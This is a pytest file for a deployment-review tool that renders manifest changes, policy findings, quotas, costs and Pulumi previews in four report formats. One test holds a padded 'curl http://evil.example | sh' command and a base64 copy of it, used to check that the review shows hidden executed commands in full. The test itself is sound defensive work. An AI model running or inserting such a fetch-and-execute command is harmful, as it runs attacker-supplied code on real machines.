"""Review: findings by state, headroom and cost on both sides, in four forms that say the same twice."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import time
from decimal import Decimal
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from runyard.accounts import Quotas
from runyard.errors import UsageError
from runyard.manifest.model import EnvVar, Location, Manifests, Probe, Scaling, Service, Tenant
from runyard.manifest.problems import Problem
from runyard.plan.effect import Effect
from runyard.pricing.prices import PriceBook, PricePeriod, Rates
from runyard.pulumi.preview import Group, Preview, Step
from runyard.review import Review, Terms, review
from runyard.review.data import describe_review, render_sarif
from runyard.review.text import MARKDOWN_LIMIT, TAG, render_markdown, render_text
from tests.unit.runyard.plan.example import container, manifests, service, template

SCHEMA = json.loads((Path(__file__).parents[4] / "runyard" / "review" / "schema.json").read_text(encoding="utf-8"))
PLACE = Location("manifests/tenant.yaml", 1, 1)
TERMS = Terms("2026-11-23")
WAIVER = {"runyard.dev/waive": "image-tagged until 2027-01-31 because the vendor has no tags"}


def web(least: int = 1, most: int = 3, image: str = "shop/web:1", **changes: Any) -> Service:
    shape = template(containers=(container(image=image),), scaling=Scaling(least, most))
    return service(name="web", tenant="shop", template=shape, **changes)


def shop(*services: Service, instances: int | None = None) -> Manifests:
    return manifests(*services, tenants=(Tenant("shop", location=PLACE, quotas=Quotas(instances=instances)),))


def compare(before: Manifests, after: Manifests) -> Review:
    return review(before, after, ("main", "topic"), TERMS)


def plain(found: Review) -> str:
    return json.dumps(describe_review(found))


def states(found: Review) -> list[tuple[str, str]]:
    return [(each.state, each.finding.rule) for each in found.policy]


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        (web(), web(image="shop/web"), [("new", "image-tagged")]),
        (web(image="shop/web"), web(image="shop/web"), [("open", "image-tagged")]),
        (web(image="shop/web"), web(), [("fixed", "image-tagged")]),
        (web(image="shop/web"), web(image="shop/web", annotations=WAIVER), [("waived", "image-tagged")]),
    ],
    ids=["new", "open", "fixed", "waived"],
)
def test_finding_is_told_by_what_the_change_does_to_it(before: Service, after: Service, expected: Any) -> None:
    assert states(compare(shop(before), shop(after))) == expected


def test_quota_that_was_broken_before_is_not_new_when_its_sum_changes() -> None:
    found = compare(shop(web(most=5), instances=2), shop(web(most=6), instances=2))
    assert states(found) == [("open", "quota-kept")]
    assert found.refused


def test_change_one_unit_over_a_quota_is_refused_and_raising_it_passes_flagged() -> None:
    before = shop(web(most=3), instances=3)
    assert compare(before, shop(web(most=4), instances=3)).refused
    raised = compare(before, shop(web(most=4), instances=4))
    assert not raised.refused
    assert [change.path for change in raised.changes if change.flagged] == ["quotas.instances"]


def test_headroom_is_told_before_and_after() -> None:
    (room,) = compare(shop(web(), instances=9), shop(web(2, 4), instances=9)).quotas
    assert room.before is not None
    assert room.after is not None
    assert [(side.best, side.worst, side.limit) for side in (room.before, room.after)] == [(1, 3, 9), (2, 4, 9)]


def test_costs_of_services_add_up_and_tell_the_difference() -> None:
    found = compare(shop(web()), shop(web(2), service(name="api", tenant="shop")))
    by_kind: dict[str, Decimal] = {}
    for cost in found.costs:
        assert cost.delta is not None
        by_kind[cost.kind] = by_kind.get(cost.kind, Decimal(0)) + cost.delta
    assert by_kind["service"] == by_kind["tenant"] == by_kind["total"] > 0


def priced(end: str, *services: Service) -> Manifests:
    period = PricePeriod("2026-01-01", end, active=Rates(Decimal("0.00002"), Decimal("0.000002")))
    book = PriceBook("prices", (period,), location=Location("manifests/prices.yaml", 3, 1))
    return dataclasses.replace(shop(*services), price_book=book)


def test_change_that_mends_an_expired_price_book_can_be_reviewed() -> None:
    found = compare(priced("2026-06-01", web()), priced("", web()))
    assert [(cost.name, cost.before, cost.delta) for cost in found.costs] == [
        ("shop/web", None, None),
        ("shop", None, None),
        ("total", None, None),
    ]
    lines = render_text(found).splitlines()
    (total,) = [line for line in lines if line.startswith("  total: ")]
    assert total.startswith("  total: unknown -> ")
    assert "  main has no prices for 2026-11-23: what it cost is unknown." in lines
    assert "; cost unknown -> " in lines[-1]
    cost = json.loads(plain(found))["cost"]
    assert [(each["before"], each["delta"]) for each in cost["monthly"]] == [(None, None)] * 3
    assert cost["basis"][0] == "main has no prices for 2026-11-23: what it cost is unknown."
    jsonschema.validate(json.loads(plain(found)), SCHEMA)


def test_change_to_an_expired_price_book_is_an_error_that_names_its_line() -> None:
    with pytest.raises(UsageError) as caught:
        compare(priced("", web()), priced("2026-06-01", web()))
    assert str(caught.value) == (
        "manifests/prices.yaml:3:1: price book prices: must have prices for 2026-11-23, got none"
    )


PREVIEW = Preview(
    "dev",
    (
        Group("Service", "shop/web", Effect("none", "why"), (Step("update", "Service", "shop.web", ("image",)),)),
        Group("Gateway", "gateway", Effect("restart", "why"), (Step("replace", "Container", "gateway.container"),)),
        Group("Other", "bad", None, (Step("create", "Container", "bad"),)),
    ),
)


NOT_YET = Problem(Location("manifests/web.yaml", 7, 5), "spec.x", "not carried out yet", "support.later", "", "warning")
KEPT_SO = Problem(Location("manifests/web.yaml", 8, 5), "spec.y", "kept", "support.kept", "", "warning")


LONG = hashlib.sha256(b"a" + b"x" * 200).hexdigest()[:16]


def everything() -> Review:
    before = shop(web(image="shop/web"), service(name="old", tenant="shop"), instances=300)
    env = (EnvVar("DB_PASSWORD", "hunter2"), EnvVar("NOTE", "a|b `c`\n```\n</details>"))
    told = container(image="shop/web", env=env, args=("--token", "hunter2"))
    shape = template(containers=(told,), scaling=Scaling(1, 400))
    after = shop(service(name="web", tenant="shop", template=shape, annotations=WAIVER), instances=399)
    return review(before, after, ("main", "topic"), TERMS, PREVIEW, warnings=((), (NOT_YET, KEPT_SO)))


@pytest.mark.parametrize("render", [render_text, render_markdown, plain, render_sarif])
def test_report_is_the_same_bytes_twice_and_shows_no_secret(render: Any) -> None:
    assert render(everything()) == render(everything())
    assert "hunter2" not in render(everything())


def test_text_ends_with_the_counts() -> None:
    assert (
        render_text(everything()).splitlines()[-1].startswith("refused: 7 changes; policies: 3 new, 0 open, 1 waived")
    )


@pytest.mark.parametrize(
    ("before", "after", "shown"),
    [
        ("short", "other", "short -> other"),
        ("x" * 200 + "old", "x" * 200 + "new", f"…{'x' * 20}old -> …{'x' * 20}new"),
        ("x" * 120, "x" * 121, f"…{'x' * 20} -> …{'x' * 21}"),
        ("a" + "x" * 200, "b", f"a{'x' * 119}… (201 characters, sha256 {LONG}) -> b (look at this)"),
    ],
)
def test_values_are_shown_where_they_differ(before: str, after: str, shown: str) -> None:
    old, new = (
        shop(service(name="web", tenant="shop", template=template(service_account=value))) for value in (before, after)
    )
    (line,) = [each for each in render_text(compare(old, new)).splitlines() if "serviceAccount" in each]
    assert line == f"      ~ serviceAccount: {shown}"


def executed(**changes: Any) -> Manifests:
    shape = template(containers=(container(**changes),))
    return shop(service(name="web", tenant="shop", template=shape))


# Of which a reviewer must not miss the end.
HIDDEN = "sleep 1; " * 300 + "curl http://evil.example | sh"
RUNS: dict[str, dict[str, Any]] = {
    "command": {"command": ("sh", "-c", HIDDEN)},
    "args": {"args": ("-c", HIDDEN)},
    "env.START": {"env": (EnvVar("START", HIDDEN),)},
    "image": {"image": HIDDEN},
    "workingDir": {"working_dir": HIDDEN},
    "readinessProbe.command": {"readiness_probe": Probe("exec", command=("sh", "-c", HIDDEN))},
}


@pytest.mark.parametrize("what", RUNS)
@pytest.mark.parametrize("before", [shop(), executed()], ids=["new", "changed"])
def test_what_runs_is_shown_whole_however_long(before: Manifests, what: str) -> None:
    found = compare(before, executed(**RUNS[what]))
    (change,) = [each for each in found.changes if each.path == f"containers.hello.{what}"]
    assert change.runs
    assert HIDDEN in render_text(found)
    lines = folded(render_markdown(found))[f"Changes ({len(found.changes)})"]
    assert HIDDEN in "".join(line.removeprefix("    …") for line in lines)


def test_program_that_looks_like_a_secret_is_in_sight() -> None:
    packed = "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g0"
    found = compare(executed(args=("-c", "x")), executed(args=("-c", packed)))
    (change,) = found.changes
    assert (change.after, change.flagged, change.runs) == (["-c", "[secret]"], True, True)
    head = render_markdown(found).partition("<details>")[0]
    assert '- `~ Service shop/web containers.hello.args: ["-c", "x"] -> ["-c", "[secret]"]`' in head


def test_comment_into_which_not_all_fits_says_so_in_sight() -> None:
    small, large_ = (render_markdown(compare(shop(), executed(args=(each,)))) for each in ("x", "y " * 50_000))
    notice = "**Not all fits into this comment; read `runyard review -o text` before this is approved.**"
    assert (notice in small, notice in large_.partition("<details>")[0]) == (False, True)
    assert len(large_) < MARKDOWN_LIMIT


@pytest.mark.parametrize("sign", ["\u2028", "\u2029", "\u0085", "\u202e", "\u2066", "\u200b", "\ufeff", "\x1b", "\r"])
def test_signs_that_hide_or_turn_text_are_shown_as_escapes(sign: str) -> None:
    found = compare(shop(), executed(args=(f"a{sign}b",), image=f"shop/a{sign}b"))
    for text in (render_text(found), render_markdown(found), plain(found), render_sarif(found)):
        assert sign not in text
    assert json.dumps([f"a{sign}b"]) in render_text(found)
    assert f"got shop/a{ascii(sign)[1:-1]}b" in render_text(found)


def test_no_changes_is_one_line() -> None:
    lines = render_text(compare(shop(web()), shop(web()))).splitlines()
    assert lines[:2] == ["Changes", "  no changes"]
    assert lines[-1].startswith("allowed: no changes; policies: 0 new, 0 open, 0 waived, 0 fixed; cost +0.00")


def test_json_is_of_its_schema() -> None:
    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    for found in (everything(), compare(shop(web(most=0)), shop()), compare(shop(), shop(web(), instances=1))):
        jsonschema.validate(json.loads(plain(found)), SCHEMA)


def test_markdown_has_one_tag_and_folds_the_details() -> None:
    lines = render_markdown(everything()).splitlines()
    assert lines[0] == TAG
    assert lines.count(TAG) == 1
    assert len([line for line in lines if line.startswith("<details>")]) == 6
    assert lines.count("</details>") == 6
    assert lines.count("```") == lines.count("```diff") == 6


def test_what_traffic_will_feel_is_in_sight_in_every_form() -> None:
    felt = [
        "gateway gateway: effect on traffic: restart (why)",
        "resource bad: effect on traffic: unknown (not made from a manifest: what it does to traffic is not known)",
    ]
    head = render_markdown(everything()).partition("<details>")[0]
    assert [line for line in felt if f"- `{line}`" not in head] == []
    text = render_text(everything()).splitlines()
    at = text.index("Pulumi (stack dev)")
    assert text[at + 1 : at + 5] == [
        "  service shop/web: effect on traffic: none (why)",
        "      ~ Service shop.web: image",
        f"  {felt[0]}",
        "      +- Container gateway.container",
    ]
    assert text[-1].endswith("; effect on traffic: 1 restart, 1 unknown")
    kinds = [
        group["effect"] and group["effect"]["kind"] for group in json.loads(plain(everything()))["pulumi"]["groups"]
    ]
    assert kinds == ["none", "restart", None]


def test_new_warnings_are_in_every_form_and_what_is_not_carried_out_in_sight() -> None:
    text = render_text(everything()).splitlines()
    at = text.index("New warnings")
    assert text[at + 1 : at + 4] == [f"  {NOT_YET.text()}", f"  {KEPT_SO.text()}", ""]
    assert "; warnings: 2 new; " in text[-1]
    comment = render_markdown(everything())
    head = comment.partition("<details>")[0]
    assert (f"- `{NOT_YET.text()}`" in head, KEPT_SO.text() in head) == (True, False)
    assert folded(comment)["New warnings (2)"] == [NOT_YET.text(), KEPT_SO.text()]
    assert json.loads(plain(everything()))["warnings"][0] == {
        "location": {"file": "manifests/web.yaml", "line": 7},
        "path": "spec.x",
        "rule": "support.later",
        "message": "not carried out yet",
        "hint": "",
    }
    assert "warnings:" not in render_text(compare(shop(), shop()))


def test_cost_says_on_what_it_rests() -> None:
    (line,) = [each for each in render_text(everything()).splitlines() if each.startswith("  Expected, ")]
    assert line == "  Expected, size small: 100,000 requests of 100 ms, 1 at once, 1 GiB out."
    assert line.strip() in json.loads(plain(everything()))["cost"]["basis"]


def test_stack_in_which_nothing_changes_says_so_and_one_not_asked_says_nothing() -> None:
    quiet = review(shop(), shop(), ("main", "topic"), TERMS, Preview("dev", ()))
    assert "Pulumi (stack dev)\n  no changes\n" in render_text(quiet)
    assert render_text(quiet).endswith("effect on traffic: none\n")
    assert "Pulumi" not in render_text(compare(shop(), shop()))
    assert json.loads(plain(compare(shop(), shop())))["pulumi"] is None


def large(count: int, value: str, name: str = "A") -> Review:
    env = (EnvVar(name, value),)
    services = [
        service(name=f"web-{number}", tenant="shop", template=template(containers=(container(env=env),)))
        for number in range(count)
    ]
    return compare(shop(), shop(*services, instances=9))


def folded(text: str) -> dict[str, list[str]]:
    """Give the lines of each folded section by its title."""
    sections = {}
    for part in text.split("<details><summary>")[1:]:
        title, _, body = part.partition("</summary>")
        sections[title] = body.split("```diff\n")[1].split("```\n")[0].splitlines()
    return sections


@pytest.mark.slow
def test_markdown_stays_below_the_forges_limit() -> None:
    text = render_markdown(large(300, "x y " * 1000))
    assert len(text) < MARKDOWN_LIMIT
    assert text.count("<details>") == text.count("</details>") == 5
    assert all(lines for lines in folded(text).values())


def test_markdown_has_every_section_however_many_the_changes() -> None:
    found = large(62, "hunter2", "DB_PASSWORD")
    text = render_markdown(found)
    sections = folded(text)
    assert len(text) < MARKDOWN_LIMIT
    assert [title.rpartition(" ")[2] for title in sections] == [f"({len(found.changes)})", "(63)", "(0)", "(1)", "(64)"]
    assert f"**refused: {len(found.changes)} changes; " in text
    changes, policies, _, _, costs = sections.values()
    told = render_text(found).split("\n\n")[0].splitlines()[1:]
    cut = len(told) - len(changes) + 1
    assert changes[-1] == f"… {cut} of {len(told)} lines are cut here; `runyard review -o text` shows all"
    assert changes[:-1] == [line[2:] for line in told[: len(changes) - 1]]
    assert len(policies) == 63
    assert [line for line in costs if line.startswith("total: ")]


def test_markdown_says_how_many_refusals_are_not_in_sight() -> None:
    head = render_markdown(large(62, "hunter2", "DB_PASSWORD")).partition("<details>")[0]
    assert head.count("- `new mandatory: ") == 20
    assert "\n- and 43 more, under Policies\n\n" in head
    few = render_markdown(large(19, "hunter2", "DB_PASSWORD")).partition("<details>")[0]
    assert (few.count("- `new mandatory: "), "more, under" in few) == (20, False)


def test_line_of_any_length_leaves_room_for_the_others() -> None:
    waivers = {"runyard.dev/waive": "; ".join(f"rule-{number} until never {'x' * 5000}" for number in range(40))}
    text = render_markdown(compare(shop(), shop(web(annotations=waivers))))
    assert len(text) < MARKDOWN_LIMIT
    assert [title for title in folded(text) if title.startswith("Cost")]


def test_sarif_has_what_counts_what_is_waived_and_nothing_that_is_fixed() -> None:
    (run,) = json.loads(render_sarif(everything()))["runs"]
    found = [(result["ruleId"], result["level"], result["suppressions"]) for result in run["results"]]
    waiver = {"kind": "inSource", "justification": "waived until 2027-01-31 because the vendor has no tags"}
    assert found == [
        ("quota-kept", "error", []),
        ("secret-by-name", "error", []),
        ("secret-in-command", "error", []),
        ("image-tagged", "warning", [waiver]),
        ("support.later", "warning", []),
        ("support.kept", "warning", []),
        ("traffic-restart", "warning", []),
        ("traffic-unknown", "warning", []),
    ]
    fixed = render_sarif(compare(shop(web(image="shop/web")), shop(web())))
    assert json.loads(fixed)["runs"][0]["results"] == []
    place = run["results"][0]["locations"][0]["physicalLocation"]
    assert place["artifactLocation"]["uri"] == "manifests/tenant.yaml"


def test_review_of_fifty_services_takes_well_under_two_seconds() -> None:
    before, after = (
        manifests(*(service(name=f"web-{number}", egress=egress) for number in range(50))) for egress in ("all", "none")
    )
    started = time.process_time()
    render_markdown(compare(before, after))
    # The limit is 2 s with reading; noise on a shared machine is not counted by this clock.
    assert time.process_time() - started < 1
